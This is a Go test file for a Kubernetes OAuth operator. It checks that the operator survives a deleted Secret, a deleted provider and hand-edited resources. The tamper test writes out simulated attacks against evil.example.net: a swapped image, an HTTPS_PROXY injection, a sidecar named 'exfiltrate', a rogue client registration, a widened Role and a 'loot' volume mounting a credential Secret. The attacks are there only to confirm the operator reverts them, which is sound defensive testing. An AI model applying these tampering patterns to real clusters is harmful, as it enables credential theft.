package controllers

import (
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	oauthv1alpha1 "github.com/mcpauth/mcpauth/api/v1alpha1"
	"github.com/mcpauth/mcpauth/authserver/config"
)

// Faults the operator must survive without anyone's help: a Secret it depends on
// vanishing and coming back, a provider deleted under its clients, and objects it
// rendered edited by hand. docs/security.md lists them with the server's faults.
var _ = Describe("The operator under faults", func() {
	var ns string
	BeforeEach(func() { ns = newNamespace() })

	It("keeps serving while a referenced Secret is deleted, and rolls the pods when it is created again", func() {
		createSecret(ns, "github-oauth", map[string]string{"client-secret": "v1"})
		p := githubProvider(ns, "gh")
		Expect(k8sClient.Create(ctx, p)).To(Succeed())
		Eventually(podHash(ns, "gh")).ShouldNot(BeEmpty())
		makeAvailable(ns, "gh")
		Eventually(condition(p, oauthv1alpha1.ConditionReady)).Should(haveCondition(metav1.ConditionTrue, oauthv1alpha1.ReasonReady))
		before := podHash(ns, "gh")()

		By("deleting the Secret")
		Expect(k8sClient.Delete(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "github-oauth"}})).To(Succeed())
		Eventually(condition(p, oauthv1alpha1.ConditionReady)).Should(And(
			haveCondition(metav1.ConditionFalse, oauthv1alpha1.ReasonSecretNotFound),
			HaveField("Message", ContainSubstring("github-oauth"))))
		Expect(condition(p, oauthv1alpha1.ConditionDegraded)()).To(haveCondition(metav1.ConditionTrue, oauthv1alpha1.ReasonSecretNotFound))
		Consistently(podHash(ns, "gh"), "500ms").Should(Equal(before),
			"the running pods keep their mounted copy; the Deployment is left alone, not deleted or rolled into pods that cannot start")

		By("creating it again with a new value")
		createSecret(ns, "github-oauth", map[string]string{"client-secret": "v2"})
		Eventually(podHash(ns, "gh")).ShouldNot(Equal(before))
		makeAvailable(ns, "gh")
		Eventually(condition(p, oauthv1alpha1.ConditionReady)).Should(haveCondition(metav1.ConditionTrue, oauthv1alpha1.ReasonReady))
		Eventually(condition(p, oauthv1alpha1.ConditionDegraded)).Should(HaveField("Status", metav1.ConditionFalse))
	})

	It("reports an MCPClient whose provider is deleted, and registers it again under the same ID when the provider returns", func() {
		createSecret(ns, "github-oauth", map[string]string{"client-secret": upstreamSecretValue})
		p := githubProvider(ns, "gh")
		Expect(k8sClient.Create(ctx, p)).To(Succeed())
		c := namedClient(ns, "agent", oauthv1alpha1.AuthMethodClientSecretBasic)
		Expect(k8sClient.Create(ctx, c)).To(Succeed())
		Eventually(condition(c, oauthv1alpha1.ConditionRegistered)).Should(haveCondition(metav1.ConditionTrue, oauthv1alpha1.ReasonRegistered))
		creds := get(&corev1.Secret{}, ns, "agent-credentials").(*corev1.Secret)
		id, secret := string(creds.Data[credClientID]), string(creds.Data[credClientSecret])

		By("deleting the provider (and what the garbage collector would delete with it)")
		get(p, ns, "gh")
		Expect(k8sClient.Delete(ctx, p)).To(Succeed())
		collectGarbage(ns, p.UID)
		Eventually(condition(c, oauthv1alpha1.ConditionReady)).Should(And(
			haveCondition(metav1.ConditionFalse, oauthv1alpha1.ReasonProviderNotFound),
			HaveField("Message", ContainSubstring("OAuthProvider gh not found"))))
		creds = get(&corev1.Secret{}, ns, "agent-credentials").(*corev1.Secret)
		Expect(string(creds.Data[credClientID])).To(Equal(id), "the client keeps its credentials while it waits")
		Expect(string(creds.Data[credClientSecret])).To(Equal(secret))

		By("creating the provider again")
		Expect(k8sClient.Create(ctx, githubProvider(ns, "gh"))).To(Succeed())
		Eventually(registry(ns)).Should(ConsistOf(And(HaveField("ClientID", id), HaveField("SecretHash", config.HashClientSecret(secret)))))
		Eventually(condition(c, oauthv1alpha1.ConditionRegistered)).Should(haveCondition(metav1.ConditionTrue, oauthv1alpha1.ReasonRegistered))
	})

	It("puts back what is edited by hand in the objects it renders", func() {
		createSecret(ns, "github-oauth", map[string]string{"client-secret": upstreamSecretValue})
		p := githubProvider(ns, "gh")
		Expect(k8sClient.Create(ctx, p)).To(Succeed())
		Expect(k8sClient.Create(ctx, namedClient(ns, "agent", oauthv1alpha1.AuthMethodClientSecretBasic))).To(Succeed())
		Eventually(registry(ns)).Should(HaveLen(1))
		Eventually(podHash(ns, "gh")).ShouldNot(BeEmpty())

		cm := get(&corev1.ConfigMap{}, ns, "gh-authserver-config").(*corev1.ConfigMap)
		role := get(&rbacv1.Role{}, ns, "gh-authserver").(*rbacv1.Role)
		reg := get(&corev1.Secret{}, ns, "gh-authserver-clients").(*corev1.Secret)
		keys := get(&corev1.Secret{}, ns, "gh-authserver-keys").(*corev1.Secret)
		dep := get(&appsv1.Deployment{}, ns, "gh-authserver").(*appsv1.Deployment)
		svc := get(&corev1.Service{}, ns, "gh-authserver").(*corev1.Service)
		wantConfig, wantRules, wantRegistry := cm.Data[configKey], role.Rules, reg.Data[registryKey]
		wantContainers, wantVolumes, wantPorts := dep.Spec.Template.Spec.Containers, dep.Spec.Template.Spec.Volumes, svc.Spec.Ports

		edit := func(obj client.Object, mutate func()) {
			GinkgoHelper()
			Eventually(func() error {
				if err := k8sClient.Get(ctx, client.ObjectKeyFromObject(obj), obj); err != nil {
					return err
				}
				mutate()
				return k8sClient.Update(ctx, obj)
			}).Should(Succeed())
		}
		By("garbage in the config")
		edit(cm, func() { cm.Data[configKey] = "issuer: https://evil.example.net\n" })
		Eventually(func() string { return get(cm, ns, cm.Name).(*corev1.ConfigMap).Data[configKey] }).Should(Equal(wantConfig))

		By("the server's Role widened to every Secret")
		edit(role, func() {
			role.Rules = []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"*"}}}
		})
		Eventually(func() []rbacv1.PolicyRule { return get(role, ns, role.Name).(*rbacv1.Role).Rules }).Should(Equal(wantRules))

		By("a client added to the registry by hand")
		edit(reg, func() {
			reg.Data[registryKey] = []byte("clients:\n- clientID: intruder\n  redirectURIs: [\"https://evil.example.net/cb\"]\n  trusted: true\n")
		})
		Eventually(func() []byte { return get(reg, ns, reg.Name).(*corev1.Secret).Data[registryKey] }).Should(Equal(wantRegistry))

		By("garbage for the encryption key")
		edit(keys, func() { keys.Data[encryptionKeyKey] = []byte("not a key") })
		Eventually(func() bool {
			return validEncryptionKey(get(keys, ns, keys.Name).(*corev1.Secret).Data[encryptionKeyKey])
		}).Should(BeTrue(), "an unusable key is replaced by a valid one")

		By("another image, an injected variable and a sidecar in the Deployment")
		edit(dep, func() {
			c := &dep.Spec.Template.Spec.Containers[0]
			c.Image = "evil.example.net/authserver:latest"
			c.Env = append(c.Env, corev1.EnvVar{Name: "HTTPS_PROXY", Value: "http://evil.example.net:3128"})
			dep.Spec.Template.Spec.Containers = append(dep.Spec.Template.Spec.Containers,
				corev1.Container{Name: "sidecar", Image: "evil.example.net/exfiltrate:latest"})
		})
		Eventually(func() []corev1.Container {
			return get(dep, ns, dep.Name).(*appsv1.Deployment).Spec.Template.Spec.Containers
		}).Should(And(HaveLen(len(wantContainers)),
			ContainElement(And(HaveField("Image", wantContainers[0].Image), HaveField("Env", wantContainers[0].Env)))))

		By("a volume mounting another Secret")
		edit(dep, func() {
			dep.Spec.Template.Spec.Volumes = append(dep.Spec.Template.Spec.Volumes, corev1.Volume{Name: "loot",
				VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "github-oauth"}}})
		})
		Eventually(func() []corev1.Volume {
			return get(dep, ns, dep.Name).(*appsv1.Deployment).Spec.Template.Spec.Volumes
		}).Should(HaveLen(len(wantVolumes)))

		By("the Service pointed at another port")
		edit(svc, func() { svc.Spec.Ports[0].TargetPort.IntVal = 9999 })
		Eventually(func() []corev1.ServicePort {
			return get(svc, ns, svc.Name).(*corev1.Service).Spec.Ports
		}).Should(Equal(wantPorts))
	})
})

// collectGarbage deletes what the provider with this UID controls in ns, as the
// garbage collector would (envtest has none).
func collectGarbage(ns string, owner types.UID) {
	GinkgoHelper()
	lists := []client.ObjectList{&appsv1.DeploymentList{}, &corev1.ServiceList{}, &corev1.ConfigMapList{}, &corev1.SecretList{},
		&corev1.ServiceAccountList{}, &rbacv1.RoleList{}, &rbacv1.RoleBindingList{}}
	for _, list := range lists {
		Expect(k8sClient.List(ctx, list, client.InNamespace(ns))).To(Succeed())
		items, err := meta.ExtractList(list)
		Expect(err).NotTo(HaveOccurred())
		for _, item := range items {
			obj := item.(client.Object)
			if ref := metav1.GetControllerOf(obj); ref != nil && ref.UID == owner {
				Expect(client.IgnoreNotFound(k8sClient.Delete(ctx, obj))).To(Succeed())
			}
		}
	}
	Eventually(func() bool {
		return apierrors.IsNotFound(k8sClient.Get(ctx, client.ObjectKey{Namespace: ns, Name: "gh-authserver-clients"}, &corev1.Secret{}))
	}).Should(BeTrue())
}
